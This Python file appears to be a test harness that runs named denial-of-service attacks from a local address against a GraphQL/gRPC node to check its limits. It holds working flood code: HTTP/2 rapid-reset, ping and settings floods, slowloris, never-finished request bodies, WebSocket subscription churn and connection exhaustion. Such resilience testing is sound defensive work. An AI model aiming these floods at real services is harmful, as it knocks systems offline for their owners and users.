"""Attacks on a node, each from an address of its own (127.0.0.2).

    attacks.py NAME HOST PORT SECONDS

Says `begun` when the attack is under way, and ends it after SECONDS.
"""

import asyncio
import base64
import json
import os
import random
import resource
import struct
import sys
import time
import urllib.parse

SOURCE = ("127.0.0.2", 0)
ATTACKS = {}


class Target:
    def __init__(self, host, port, seconds):
        self.host, self.port = host, port
        self.end = time.monotonic() + seconds
        self.opened = self.refused = self.sent = 0

    @property
    def goes_on(self):
        return time.monotonic() < self.end

    async def connect(self):
        streams = await asyncio.open_connection(self.host, self.port, local_addr=SOURCE)
        self.opened += 1
        return streams

    async def until_end(self):
        await asyncio.sleep(max(0, self.end - time.monotonic()))


def attack(run):
    ATTACKS[run.__name__] = run
    return run


async def repeat(target, count, run):
    """Runs so many clients, each of which begins again when it is cut off."""

    async def one():
        while target.goes_on:
            try:
                await asyncio.wait_for(run(), max(0.1, target.end - time.monotonic()))
            except (OSError, asyncio.IncompleteReadError, asyncio.TimeoutError):
                target.refused += 1
                await asyncio.sleep(0.05)

    print("begun", flush=True)
    await asyncio.gather(*(one() for _ in range(count)))


async def drop(reader):
    """Reads and forgets, so that the attack does not stop by itself."""
    while await reader.read(1 << 16):
        pass


def frame(opcode, payload=b""):
    mask = b"\x01\x02\x03\x04"
    size = len(payload)
    head = bytes([0x80 | opcode]) + (
        bytes([0x80 | size]) if size < 126 else bytes([0x80 | 126]) + struct.pack(">H", size)
    )
    return head + mask + bytes(byte ^ mask[index % 4] for index, byte in enumerate(payload))


def message(value):
    return frame(1, json.dumps(value).encode())


async def open_socket(target):
    reader, writer = await target.connect()
    key = base64.b64encode(os.urandom(16)).decode()
    writer.write(
        "GET /graphql HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n"
        "Sec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n".encode()
    )
    head = await reader.readuntil(b"\r\n\r\n")
    if b" 101 " not in head:
        writer.close()
        raise OSError(head.split(b"\r\n")[0].decode())
    return reader, writer


async def flood(target, open_stream, burst):
    reader, writer = await open_stream(target)
    reading = asyncio.create_task(drop(reader))
    try:
        while target.goes_on and not reading.done():
            writer.write(burst())
            target.sent += 1
            await writer.drain()
    finally:
        reading.cancel()
        writer.close()


def subscribe(id, operation, variables):
    return message(
        {
            "id": id,
            "type": "subscribe",
            "payload": {"query": "", "operationName": operation, "variables": variables},
        }
    )


def query_path(operation, variables):
    text = urllib.parse.quote(json.dumps(variables))
    return f"/v1/connectors/auctions/queries/{operation}?variables={text}"


async def get(target, path):
    reader, writer = await target.connect()
    try:
        writer.write(f"GET {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n".encode())
        target.sent += 1
        await drop(reader)
    finally:
        writer.close()


async def slow_queries(target, count):
    await repeat(target, count, lambda: get(target, query_path("HostileSleep", {"seconds": 60})))


@attack
async def slow_query_1(target):
    await slow_queries(target, 1)


@attack
async def slow_query_20(target):
    await slow_queries(target, 20)


@attack
async def slow_subscriptions(target):
    """Twenty clients, each with eight live queries that take a minute and are all different."""
    numbers = iter(range(1, 1 << 40))

    async def run():
        reader, writer = await open_socket(target)
        reading = asyncio.create_task(drop(reader))
        try:
            writer.write(message({"type": "connection_init"}))
            for _ in range(8):
                number = next(numbers)
                writer.write(subscribe(str(number), "HostileSleep", {"seconds": 60 + number / 1000}))
                target.sent += 1
                await writer.drain()
                await asyncio.sleep(0.005)
            await reading
        finally:
            reading.cancel()
            writer.close()

    await repeat(target, 20, run)


@attack
async def ping_flood(target):
    burst = frame(9) * 1000
    await repeat(target, 3, lambda: flood(target, open_socket, lambda: burst))


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"


async def open_http2(target):
    reader, writer = await target.connect()
    writer.write(PREFACE)
    return reader, writer


def http2(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


@attack
async def http2_ping_flood(target):
    burst = http2(6, 0, 0, b"attacker") * 500
    await repeat(target, 3, lambda: flood(target, open_http2, lambda: burst))


@attack
async def http2_settings_flood(target):
    burst = http2(4, 0, 0, b"") * 500
    await repeat(target, 3, lambda: flood(target, open_http2, lambda: burst))


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


@attack
async def reset_flood(target):
    """Calls that are cancelled as soon as they begin."""
    path = b"/google.firebase.dataconnect.v1.ConnectorStreamService/Connect"
    fields = b"\x83\x86" + literal(b":path", path) + literal(b"content-type", b"application/grpc")

    async def run():
        state = {"stream": -1}

        def burst():
            whole = b""
            for _ in range(20):
                state["stream"] += 2
                whole += http2(1, 4, state["stream"], fields) + http2(3, 0, state["stream"], b"\0\0\0\x08")
            return whole

        await flood(target, open_http2, burst)

    await repeat(target, 3, run)


@attack
async def churn(target):
    """Subscriptions to ever new live queries, each ended at once."""
    numbers = iter(range(1, 1 << 40))

    async def open_session(target):
        reader, writer = await open_socket(target)
        writer.write(message({"type": "connection_init"}))
        return reader, writer

    def burst():
        whole = b""
        for _ in range(50):
            id = str(next(numbers))
            whole += subscribe(id, "SearchLots", {"text": f"churn {id}"}) + message({"id": id, "type": "complete"})
        return whole

    await repeat(target, 3, lambda: flood(target, open_session, burst))


@attack
async def cut_off(target):
    """Subscriptions to ever new live queries on connections that are cut off, so that their live queries linger."""
    numbers = iter(range(1, 1 << 40))

    async def run():
        reader, writer = await open_socket(target)
        reading = None
        try:
            writer.write(message({"type": "connection_init"}))
            for _ in range(1000):
                number = next(numbers)
                writer.write(subscribe(str(number), "SearchLots", {"text": f"cut off {number}"}))
            target.sent += 1000
            await writer.drain()
            # A busy server may take long to send the first result or refusal.
            while True:
                part = await reader.read(1 << 16)
                if not part or b'"next"' in part or b'"error"' in part:
                    break
            reading = asyncio.create_task(drop(reader))
            await asyncio.sleep(0.3)
        finally:
            if reading:
                reading.cancel()
            writer.transport.abort()

    await repeat(target, 3, run)


async def send_unfinished_body(target, size):
    """A body without its last bytes, held until it is answered."""
    reader, writer = await target.connect()
    try:
        writer.write(
            "POST /graphql HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
            f"Content-Length: {size}\r\n\r\n".encode()
        )
        left = size - 64
        while left > 0:
            piece = min(left, 1 << 16)
            writer.write(b"x" * piece)
            await writer.drain()
            left -= piece
        target.sent += 1
        await drop(reader)
        await asyncio.sleep(0.2)
    finally:
        writer.close()


@attack
async def large_bodies(target):
    """Bodies of 4 MiB that never end."""
    await repeat(target, 100, lambda: send_unfinished_body(target, 4 << 20))


@attack
async def many_bodies(target):
    """As many unfinished bodies, large and small, as fill the memory for bodies (http.bodiesBytesMax)."""
    sizes = iter([4 << 20] * 48)
    await repeat(target, 48 + 1024, lambda: send_unfinished_body(target, next(sizes, 1 << 16)))


@attack
async def idle_connections(target):
    """More open connections than an address may have, each with one request."""

    async def run():
        reader, writer = await target.connect()
        try:
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n")
            head = await reader.readuntil(b"\r\n\r\n")
            target.sent += 1
            if b" 200 " not in head:
                await asyncio.sleep(0.5)
                raise OSError(head.split(b"\r\n")[0].decode())
            await drop(reader)
        finally:
            writer.close()

    await repeat(target, 6500, run)


@attack
async def slowloris(target):
    """Headers that arrive byte by byte."""

    async def run():
        reader, writer = await target.connect()
        reading = asyncio.create_task(drop(reader))
        try:
            writer.write(b"GET / HTTP/1.1\r\nX-Slow: ")
            while not reading.done():
                writer.write(b"x")
                await writer.drain()
                await asyncio.sleep(1)
        finally:
            reading.cancel()
            writer.close()

    await repeat(target, 500, run)


@attack
async def junk(target):
    """Bytes and messages that mean nothing."""

    async def run():
        kind = random.randrange(4)
        if kind == 0:
            reader, writer = await target.connect()
            writer.write(os.urandom(2000))
        elif kind == 1:
            reader, writer = await target.connect()
            writer.write(PREFACE + os.urandom(2000))
        else:
            reader, writer = await open_socket(target)
            writer.write(message({"type": "connection_init"}))
            nested = frame(1, b'{"type":"' + b"[" * 400 + b'"}') + frame(2, b"\xff" * 90)
            writer.write(os.urandom(500) if kind == 2 else nested)
        target.sent += 1
        try:
            await asyncio.wait_for(drop(reader), 1)
        finally:
            writer.close()

    await repeat(target, 20, run)


@attack
async def many_sessions(target):
    """Sessions from one address, as many as it gets, each with a subscription."""
    held = []

    async def run():
        reader, writer = await open_socket(target)
        writer.write(message({"type": "connection_init"}) + subscribe("1", "ClosingSoon", {"limit": len(held) % 50}))
        held.append(writer)
        await drop(reader)

    await repeat(target, 3000, run)
    for writer in held:
        writer.close()


@attack
async def oversize_results(target):
    """Results larger than the node delivers."""
    await repeat(target, 3, lambda: get(target, query_path("HostileBig", {"length": 20_000_000})))


async def main(name, host, port, seconds):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65_536), hard))
    target = Target(host, int(port), float(seconds))
    await ATTACKS[name](target)
    await target.until_end()
    print(f"opened {target.opened} refused {target.refused} sent {target.sent}", flush=True)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
